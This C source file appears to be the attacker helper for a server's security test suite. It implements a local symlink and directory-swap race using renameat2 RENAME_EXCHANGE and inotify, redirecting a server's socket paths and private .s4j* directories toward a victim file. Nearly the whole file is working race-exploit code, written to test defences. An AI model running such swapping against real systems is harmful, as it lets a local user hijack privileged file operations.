/*
 * swapper.c: the hostile local user of SecurityTest, as fast as C allows.
 * In DIR, exchanges NAME with a symbolic link to VICTIM over and over
 * (renameat2 RENAME_EXCHANGE, Linux), and every directory named .s4j* with
 * one of its own that holds a link "s" to VICTIM.  Prints "ready", then
 * runs until killed.  Linux only; built by the test with cc.
 *
 * With -d, it trades the server's private directories instead: as soon as
 * inotify reports a new directory named .s4j* in DIR, exchanges it with the
 * directory NAME (one the server's user owns, mode 0700, holding a file "s"
 * of its own; a directory may be renamed within its parent by anyone who may
 * write the parent), and back again a moment later.
 *
 *	swapper DIR NAME VICTIM
 *	swapper -d DIR NAME
 */
#define	_GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#ifndef RENAME_EXCHANGE
#define	RENAME_EXCHANGE	(1 << 1)
#endif

static int
exchange(int dfd, const char *a, const char *b)
{
	return ((int)syscall(SYS_renameat2, dfd, a, dfd, b, RENAME_EXCHANGE));
}

/* swapper -d DIR NAME: trades every new .s4j* directory for NAME, and back. */
static int
trade(const char *dir, const char *name)
{
	int dfd, in;
	char buf[8192] __attribute__((aligned(8)));
	ssize_t n;

	if ((dfd = open(dir, O_RDONLY | O_DIRECTORY)) < 0) {
		perror(dir);
		return (1);
	}
	if ((in = inotify_init()) < 0 ||
	    inotify_add_watch(in, dir, IN_CREATE | IN_ONLYDIR) < 0) {
		perror("inotify");
		return (1);
	}
	(void) printf("ready\n");
	(void) fflush(stdout);
	while ((n = read(in, buf, sizeof (buf))) > 0) {
		char *p = buf;

		while (p < buf + n) {
			struct inotify_event *e = (struct inotify_event *)p;

			p += sizeof (*e) + e->len;
			if (e->len == 0 || !(e->mask & IN_ISDIR) ||
			    strncmp(e->name, ".s4j", 4) != 0)
				continue;
			/* Ours in; theirs back after a moment. */
			if (exchange(dfd, name, e->name) == 0) {
				(void) usleep(2000);
				(void) exchange(dfd, name, e->name);
			}
		}
	}
	return (0);
}

int
main(int argc, char **argv)
{
	int dfd;
	unsigned long n;
	char evil[64], trap[64], link[128];

	if (argc == 4 && strcmp(argv[1], "-d") == 0)
		return (trade(argv[2], argv[3]));
	if (argc != 4) {
		(void) fprintf(stderr,
		    "usage: swapper DIR NAME VICTIM | swapper -d DIR NAME\n");
		return (2);
	}
	if ((dfd = open(argv[1], O_RDONLY | O_DIRECTORY)) < 0) {
		perror(argv[1]);
		return (1);
	}
	(void) snprintf(evil, sizeof (evil), ".evil%d", (int)getpid());
	(void) unlinkat(dfd, evil, 0);
	if (symlinkat(argv[3], dfd, evil) != 0) {
		perror("symlink");
		return (1);
	}
	(void) printf("ready\n");
	(void) fflush(stdout);
	for (n = 0; ; n++) {
		struct stat st;

		/*
		 * The path: whatever is there (a socket just bound) swapped for
		 * the link, and back on the next turn.
		 */
		(void) exchange(dfd, evil, argv[2]);
		if ((n & 63) != 0)
			continue;
		/* The server's private directories: swapped for one of ours. */
		DIR *d = fdopendir(dup(dfd));
		struct dirent *e;

		if (d == NULL)
			continue;
		/* The dup shares dfd's offset, left at the end by the last pass. */
		rewinddir(d);
		while ((e = readdir(d)) != NULL) {
			if (strncmp(e->d_name, ".s4j", 4) != 0)
				continue;
			(void) snprintf(trap, sizeof (trap), ".trap%lu", n);
			if (mkdirat(dfd, trap, 0777) != 0)
				continue;
			(void) snprintf(link, sizeof (link), "%s/s", trap);
			(void) symlinkat(argv[3], dfd, link);
			(void) exchange(dfd, trap, e->d_name);
			(void) fstatat(dfd, trap, &st, 0);
		}
		(void) closedir(d);
	}
}
